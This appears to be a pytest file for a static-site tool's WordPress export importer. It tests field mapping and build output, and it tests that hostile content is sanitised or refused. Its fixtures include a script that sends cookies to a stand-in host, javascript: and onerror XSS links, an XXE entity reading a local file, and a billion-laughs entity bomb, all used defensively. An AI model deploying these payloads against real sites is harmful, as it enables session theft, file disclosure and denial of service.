"""WordPress exports (WXR 1.2) through the real `archivegen import`, then `archivegen build`:
posts only by default, dates, authors, terms, slugs, images, safe bodies; hostile XML."""

from __future__ import annotations

import functools
import http.server
import resource
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from PIL import Image

from archivegen.cli import main
from archivegen.content.frontmatter import parse_front_matter

SITE = "https://koran.example"
UPLOADS = f"{SITE}/wp-content/uploads/2022/10"


def item(post_id: int, title: str, *, kind: str = "post", status: str = "publish",
         gmt: str = "2022-10-04 11:23:00", local: str = "2022-10-04 18:23:00",
         name: str = "", creator: str = "budi", content: str = "", excerpt: str = "",
         terms: str = "", meta: str = "", parent: int = 0, attachment: str = "") -> str:  # fmt: skip
    link = f"{SITE}/{name}/" if name else f"{SITE}/?p={post_id}"
    attached = f"<wp:attachment_url>{attachment}</wp:attachment_url>" if attachment else ""
    return f"""
    <item>
      <title><![CDATA[{title}]]></title>
      <link>{link}</link>
      <pubDate>Tue, 04 Oct 2022 11:23:00 +0000</pubDate>
      <dc:creator><![CDATA[{creator}]]></dc:creator>
      <guid isPermaLink="false">{SITE}/?p={post_id}</guid>
      <description></description>
      <content:encoded><![CDATA[{content}]]></content:encoded>
      <excerpt:encoded><![CDATA[{excerpt}]]></excerpt:encoded>
      <wp:post_id>{post_id}</wp:post_id>
      <wp:post_date><![CDATA[{local}]]></wp:post_date>
      <wp:post_date_gmt><![CDATA[{gmt}]]></wp:post_date_gmt>
      <wp:comment_status><![CDATA[open]]></wp:comment_status>
      <wp:ping_status><![CDATA[open]]></wp:ping_status>
      <wp:post_name><![CDATA[{name}]]></wp:post_name>
      <wp:status><![CDATA[{status}]]></wp:status>
      <wp:post_parent>{parent}</wp:post_parent>
      <wp:menu_order>0</wp:menu_order>
      <wp:post_type><![CDATA[{kind}]]></wp:post_type>
      <wp:post_password><![CDATA[]]></wp:post_password>
      <wp:is_sticky>0</wp:is_sticky>
      {attached}{terms}{meta}
    </item>"""


def term(domain: str, nicename: str, name: str) -> str:
    return f'<category domain="{domain}" nicename="{nicename}"><![CDATA[{name}]]></category>'


def postmeta(key: str, value: str) -> str:
    return (
        f"<wp:postmeta><wp:meta_key><![CDATA[{key}]]></wp:meta_key>"
        f"<wp:meta_value><![CDATA[{value}]]></wp:meta_value></wp:postmeta>"
    )


CLASSIC = f"""Ratusan ribu warga Rusia menyeberang ke Kazakhstan.
Antrean mengular di perbatasan.

Pemerintah Kazakhstan <a href="https://kz.example/berita">menyatakan</a> siap menampung.

[caption id="attachment_10" align="aligncenter" width="640"]<img class="size-large wp-image-10" src="{UPLOADS}/antrean.jpg" alt="Antrean di perbatasan" width="640" height="427" /> Antrean kendaraan di pos Kazakhstan.[/caption]

<h2>Mobilisasi</h2>
Kebijakan itu diumumkan pekan lalu."""

HOSTILE = """<!-- wp:paragraph -->
<p>Peneliti menemukan celah <strong>keamanan</strong> baru.</p>
<!-- /wp:paragraph -->
<script>document.location="https://jahat.example/?c="+document.cookie</script>
<!-- wp:paragraph -->
<p>Klik <a href="javascript:alert(1)">tautan ini</a> atau <a href="JaVa&#x09;ScRiPt:alert(2)">ini</a>; <img src="x" onerror="alert(3)">baca <a href="/kebijakan/">kebijakan</a>.</p>
<!-- /wp:paragraph -->
[gallery]"""


def export() -> str:
    """An export as WordPress 6 writes it: two posts, a page, a draft, two attachments."""
    items = [
        item(
            1,
            "Ratusan Ribu Warga Rusia Eksodus ke Kazakhstan",
            name="ratusan-ribu-warga-rusia",
            content=CLASSIC,
            excerpt="Warga Rusia <em>berbondong</em> ke Kazakhstan.",
            terms=term("category", "dunia", "Dunia")
            + term("category", "eropa", "Eropa")
            + term("post_tag", "rusia", "Rusia")
            + term("post_tag", "kazakhstan", "Kazakhstan"),
            meta=postmeta("_thumbnail_id", "10") + postmeta("_edit_last", "1"),
        ),
        item(
            10,
            "antrean",
            kind="attachment",
            status="inherit",
            parent=1,
            name="antrean",
            attachment=f"{UPLOADS}/antrean.jpg",
            excerpt="Antrean di pos perbatasan",
            meta=postmeta("_wp_attachment_image_alt", "Antrean kendaraan"),
        ),
        item(
            2,
            "Celah Keamanan &amp; Tautan Jahat",
            name="%e6%97%a5%e6%9c%ac-celah",
            gmt="0000-00-00 00:00:00",
            local="2022-10-05 09:00:00",
            creator="sari",
            content=HOSTILE,
            terms=term("category", "uncategorized", "Uncategorized")
            + term("category", "teknologi", "Teknologi"),
        ),
        item(
            11,
            "diagram",
            kind="attachment",
            status="inherit",
            parent=2,
            attachment=f"{UPLOADS}/diagram.png",
            excerpt="Diagram celah",
        ),
        item(3, "Tentang Kami", kind="page", name="tentang", content="Halaman redaksi."),
        item(
            4,
            "Draf Belum Terbit",
            status="draft",
            gmt="0000-00-00 00:00:00",
            local="2022-10-06 08:00:00",
            content="Masih disunting.",
            terms=term("category", "dunia", "Dunia"),
        ),
    ]
    return f"""<?xml version="1.0" encoding="UTF-8" ?>
<!-- This is a WordPress eXtended RSS file generated by WordPress as an export of your site. -->
<!-- generator="WordPress/6.4.2" created="2022-10-07 03:00" -->
<rss version="2.0"
	xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:wfw="http://wellformedweb.org/CommentAPI/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:wp="http://wordpress.org/export/1.2/"
>
<channel>
	<title>Koran Contoh</title>
	<link>{SITE}</link>
	<description>Berita</description>
	<language>id</language>
	<wp:wxr_version>1.2</wp:wxr_version>
	<wp:base_site_url>{SITE}</wp:base_site_url>
	<wp:base_blog_url>{SITE}</wp:base_blog_url>
	<wp:author><wp:author_id>1</wp:author_id><wp:author_login><![CDATA[budi]]></wp:author_login><wp:author_email><![CDATA[budi@koran.example]]></wp:author_email><wp:author_display_name><![CDATA[Budi Santoso]]></wp:author_display_name><wp:author_first_name><![CDATA[Budi]]></wp:author_first_name><wp:author_last_name><![CDATA[S.]]></wp:author_last_name></wp:author>
	<wp:author><wp:author_id>2</wp:author_id><wp:author_login><![CDATA[sari]]></wp:author_login><wp:author_email><![CDATA[sari@koran.example]]></wp:author_email><wp:author_display_name><![CDATA[]]></wp:author_display_name><wp:author_first_name><![CDATA[Sari]]></wp:author_first_name><wp:author_last_name><![CDATA[Dewi]]></wp:author_last_name></wp:author>
	<wp:category><wp:term_id>2</wp:term_id><wp:category_nicename><![CDATA[dunia]]></wp:category_nicename><wp:category_parent><![CDATA[]]></wp:category_parent><wp:cat_name><![CDATA[Dunia]]></wp:cat_name></wp:category>
	<generator>https://wordpress.org/?v=6.4.2</generator>
{"".join(items)}
</channel>
</rss>
"""


def run(*args: str | Path) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def new_site(tmp_path: Path) -> Path:
    assert run("init", tmp_path / "site").exit_code == 0
    return tmp_path / "site"


def imported(root: Path) -> dict[str, tuple[dict[str, Any], str]]:
    """The imported articles by title: (front matter, body)."""
    found = {}
    for path in (root / "content").rglob("*.md"):
        if ".revisions" in path.parts:  # earlier versions, kept aside
            continue
        _, head, body = path.read_text("utf-8").split("---\n", 2)
        meta = parse_front_matter(head, str(path))  # dates as written, not parsed
        if "import_key" in meta:
            found[str(meta["title"])] = (meta, body.strip())
    return found


def import_export(root: Path, *flags: str, text: str | None = None) -> Result:
    source = root.parent / "export.xml"  # no .wxr suffix: known by its content
    source.write_text(text or export(), "utf-8")
    return run("import", source, "--config", root / "site.yaml", "--workers", "1", *flags)


def test_posts_import_field_by_field_and_build(tmp_path: Path) -> None:
    root = new_site(tmp_path)
    result = import_export(root)
    assert result.exit_code == 0, result.output
    articles = imported(root)
    assert set(articles) == {
        "Ratusan Ribu Warga Rusia Eksodus ke Kazakhstan",
        "Celah Keamanan & Tautan Jahat",
    }  # not the page, the draft nor the attachments

    meta, body = articles["Ratusan Ribu Warga Rusia Eksodus ke Kazakhstan"]
    assert meta["date"] == "2022-10-04T18:23:00+07:00"  # the GMT moment at the post's offset
    assert meta["author"] == "Budi Santoso"  # the display name, not the login
    assert meta["category"] == "Dunia"
    assert meta["tags"] == ["Rusia", "Kazakhstan", "Eropa"]  # a second category is a label
    assert meta["slug"] == "ratusan-ribu-warga-rusia"
    assert meta["source"] == f"{SITE}/ratusan-ribu-warga-rusia/"
    assert meta["image"] == f"{UPLOADS}/antrean.jpg"  # the featured image, a URL still
    assert meta["image_caption"] == "Antrean di pos perbatasan"
    assert meta["excerpt"] == "Warga Rusia berbondong ke Kazakhstan."
    assert meta["draft"] is False and "updated" not in meta  # WordPress says: published
    assert "budi@" not in str(meta)
    assert body.split("\n\n") == [
        "Ratusan ribu warga Rusia menyeberang ke Kazakhstan.\\\nAntrean mengular di perbatasan.",
        "Pemerintah Kazakhstan [menyatakan](<https://kz.example/berita>) siap menampung.",
        f"![Antrean di perbatasan](<{UPLOADS}/antrean.jpg>)",
        "Antrean kendaraan di pos Kazakhstan.",
        "## Mobilisasi",
        "Kebijakan itu diumumkan pekan lalu.",
    ]  # wpautop's paragraphs and line break; the [caption] shortcode as picture and caption

    meta, body = articles["Celah Keamanan & Tautan Jahat"]
    assert meta["date"] == "2022-10-05T09:00:00+07:00"  # post_date at the site's offset
    assert meta["author"] == "Sari Dewi"  # no display name: first and last name
    assert meta["category"] == "Teknologi"  # not WordPress's default Uncategorized
    assert meta["tags"] == ["Uncategorized"]
    assert meta["slug"] == "ri-ben-celah"  # percent-encoded UTF-8, made an ASCII slug
    assert "image" not in meta and "excerpt" not in meta
    assert body.split("\n\n") == [
        "Peneliti menemukan celah **keamanan** baru.",
        f"Klik tautan ini atau ini; ![](<{meta['source']}x>)baca "
        "[kebijakan](<https://koran.example/kebijakan/>).",
        f"![diagram](<{UPLOADS}/diagram.png>)",  # [gallery]: the post's attachments (title as alt)
        "Diagram celah",
    ]
    for bad in ("script", "cookie", "javascript", "alert", "onerror"):
        assert bad not in body.lower(), bad

    output = result.output
    assert "export.xml:" in output and "wp:post_date_gmt is 0000-00-00 00:00:00" in output
    assert "read at UTC+07:00, the site's offset" in output
    assert (
        "not imported: 2 attachment item(s), 1 page item(s), 1 post item(s) with status draft"
        in output
    )

    built = run("build", "--config", root / "site.yaml", "--workers", "1")
    assert built.exit_code == 0, built.output
    assert "Built 3 articles" in built.stdout  # and the example article of `init`
    page = next((root / "public").rglob("ratusan-ribu-warga-rusia/index.html")).read_text()
    assert "Budi Santoso" in page and "Antrean kendaraan di pos Kazakhstan." in page


def test_pages_and_drafts_when_asked_drafts_stay_unpublished(tmp_path: Path) -> None:
    root = new_site(tmp_path)
    # a page has no category, which the build requires: --set gives it one
    flags = ("--wp-types", "post,page", "--wp-status", "publish,draft", "--set", "category=Redaksi")
    result = import_export(root, *flags)
    assert result.exit_code == 0, result.output
    articles = imported(root)
    assert len(articles) == 4
    page, _ = articles["Tentang Kami"]
    assert page["slug"] == "tentang" and page["category"] == "Redaksi" and not page["draft"]
    draft, body = articles["Draf Belum Terbit"]
    assert draft["draft"] is True and body == "Masih disunting."
    assert draft["date"] == "2022-10-06T08:00:00+07:00"
    assert "slug" not in draft  # a draft has no post_name yet
    assert "not imported: 2 attachment item(s)" in result.output
    built = run("build", "--config", root / "site.yaml", "--workers", "1")
    assert built.exit_code == 0, built.output
    pages = [p.read_text() for p in (root / "public").rglob("index.html")]
    assert any("Halaman redaksi." in p for p in pages)
    assert not any("Masih disunting." in p for p in pages)  # the draft is not published

    published = export().replace("<![CDATA[draft]]>", "<![CDATA[publish]]>")
    again = import_export(root, *flags, text=published)  # the draft published since
    assert again.exit_code == 0, again.output
    assert imported(root)["Draf Belum Terbit"][0]["draft"] is False
    assert "1 updated, 3 unchanged" in again.output


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def uploads(tmp_path: Path) -> Iterator[str]:
    """Real HTTP on 127.0.0.1 serving the export's featured image; its base URL."""
    folder = tmp_path / "uploads"
    folder.mkdir()
    Image.new("RGB", (640, 427), "seagreen").save(folder / "antrean.jpg", "JPEG")
    handler = functools.partial(_Quiet, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def test_fetch_images_makes_the_featured_image_local(tmp_path: Path, uploads: str) -> None:
    root = new_site(tmp_path)
    result = import_export(root, "--fetch-images", text=export().replace(UPLOADS, uploads))
    assert result.exit_code == 0, result.output
    assert "Images: 1 article(s) now show a local copy (1 download(s)); 0 failed" in result.output
    meta, _ = imported(root)["Ratusan Ribu Warga Rusia Eksodus ke Kazakhstan"]
    assert meta["image_source"] == f"{uploads}/antrean.jpg"
    assert str(meta["image"]).endswith(".jpg") and "/" not in str(meta["image"])
    assert next((root / "content").rglob(str(meta["image"]))).stat().st_size > 1000
    built = run("build", "--config", root / "site.yaml", "--workers", "1")
    assert built.exit_code == 0, built.output


@pytest.mark.parametrize(
    ("flags", "message"),
    [
        (("--wp-types", "attachment"), "attachments are imported as the images of their posts"),
        (("--wp-status", "publish,published"), "published: not a status"),
        (("--wp-types", " , "), "give a comma-separated list"),
    ],
)
def test_bad_selection_is_an_error_naming_the_option(
    tmp_path: Path, flags: tuple[str, ...], message: str
) -> None:
    root = new_site(tmp_path)
    result = import_export(root, *flags)
    assert result.exit_code == 1
    assert message in result.output and "Traceback" not in result.output
    assert imported(root) == {}


XXE = f"""<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY secret SYSTEM "file://{{path}}"> ]>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"
     xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
{item(5, "Bocor", content="Isi").replace("<description>", "<description>&secret;")}
</channel></rss>"""
LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lollollollollollollollollollol">
{levels}
]>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"
     xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
{item}
</channel></rss>"""


def billion_laughs() -> str:
    levels = "\n".join(
        f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">'
        for n in range(1, 10)
    )
    laughing = item(6, "Tawa", content="Isi").replace("<description>", "<description>&lol9;")
    return LAUGHS.format(levels=levels, item=laughing)


def test_entities_are_refused_unread(tmp_path: Path) -> None:
    root = new_site(tmp_path)
    secret = tmp_path / "secret.txt"
    secret.write_text("KATA-SANDI-RAHASIA", "utf-8")
    for text in (XXE.replace("{path}", str(secret)), billion_laughs()):
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        result = import_export(root, text=text)
        assert result.exit_code == 2, result.output
        assert "declares a DTD or entities" in result.output and "refused" in result.output
        assert imported(root) == {}
        grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
        assert grown < 100_000  # kilobytes: 10^9 laughs were never expanded
    assert not any("KATA-SANDI" in p.read_text() for p in (root / "content").rglob("*.md"))


def test_truncated_export_keeps_the_posts_before_the_break(tmp_path: Path) -> None:
    root = new_site(tmp_path)
    text = export()
    cut = text[: text.index("<title><![CDATA[Tentang Kami") + 20]
    result = import_export(root, text=cut)
    assert result.exit_code == 2
    assert len(imported(root)) == 2
    assert (
        "not well-formed XML" in result.output
        and "the posts before it were imported" in result.output
    )
